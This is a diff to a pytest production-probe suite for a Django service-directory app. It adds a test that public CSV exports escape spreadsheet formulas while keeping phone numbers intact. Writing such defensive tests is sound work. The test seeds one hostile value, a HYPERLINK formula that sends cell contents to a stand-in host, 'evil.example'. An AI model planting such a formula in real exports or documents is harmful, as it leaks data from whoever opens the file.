@@ -18,6 +18,8 @@ traceback) and recovered from without restarting the server.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -27,6 +29,7 @@ import sqlite3
 import subprocess
 import sys
 import time
+import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -36,6 +39,8 @@ import pytest
 import requests
 from cryptography.fernet import Fernet
 from django_otp.oath import totp
+
+from ruta.lib.sheets import is_formula_like, unescape
 
 pytestmark = pytest.mark.production
 
@@ -51,6 +56,7 @@ LEAKS = ("Traceback", 'File "/', "OperationalError", "sqlite", "django.", "no su
 # an agency admin who has not enrolled 2FA. The caseworker gets one authenticator device
 # per login the probes make: a code is accepted once per device and 30-second step.
 DEVICES = 6
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'  # a directory service's name
 SETUP = """
 import json
 from django_otp.plugins.otp_totp.models import TOTPDevice
@@ -58,6 +64,7 @@ from ruta.accounts.models import User
 from ruta.agencies.models import Organization
 from ruta.cases import actions
 from ruta.cases.models import ConsentMethod, ConsentPurpose
+from ruta.directory.tests.factories import make_service
 
 password = {password!r}
 care = Organization.objects.create(name="Care Probe", acronym="CARE", type="ngo")
@@ -86,6 +93,7 @@ for n in range({devices}):
 other = person("cw@hias.example.org", "caseworker", hias)
 TOTPDevice.objects.create(user=other, name="probe", confirmed=True)
 person("admin@care.example.org", "agency_admin", care)
+make_service(care, {hostile!r}, phones=(("+51 900 000 000", True),))
 print(json.dumps({{
     "keys": keys,
     "case": case(caseworker, "Rosalind"),
@@ -215,7 +223,9 @@ def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Instance]:
     # The API documentation bundles (28 MB, minutes of compression on a busy machine) are
     # left out: no page the probes visit uses them.
     _manage(env, "collectstatic", "--no-input", "-v", "0", *STATIC_SKIPPED)
-    made = _manage(env, "shell", "-c", SETUP.format(password=password, devices=DEVICES))
+    made = _manage(
+        env, "shell", "-c", SETUP.format(password=password, devices=DEVICES, hostile=HOSTILE)
+    )
     data = json.loads(made.strip().splitlines()[-1])  # after the shell's own chatter
     port = _free_port()
     access_log = folder / "access.log"
@@ -368,6 +378,23 @@ def test_huge_page_numbers_are_clamped(instance: Instance) -> None:
     huge = "99999999999999999999"
     assert instance.get(f"/api/hsds/services?page={huge}").status_code in (200, 404)
     assert instance.get(f"/servicios/?page={huge}").status_code == 200
+
+
+def test_public_exports_hand_spreadsheets_no_formula(instance: Instance) -> None:
+    archive = instance.get("/api/hsds/export.zip")
+    assert archive.status_code == 200
+    cells: list[str] = []
+    with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
+        for name in files.namelist():
+            if name.endswith(".csv"):
+                text = files.read(name).decode("utf-8-sig")
+                cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    three_w = instance.get("/directorio/informes/3w.csv")
+    assert three_w.status_code == 200
+    cells += [c for row in csv.reader(io.StringIO(three_w.text)) for c in row]
+    assert [cell for cell in cells if is_formula_like(cell)] == []
+    assert HOSTILE in {unescape(cell) for cell in cells}  # kept, as text
+    assert "+51 900 000 000" in cells  # a phone number is not mangled
 
 
 def test_the_access_log_keeps_no_search_words(instance: Instance) -> None:
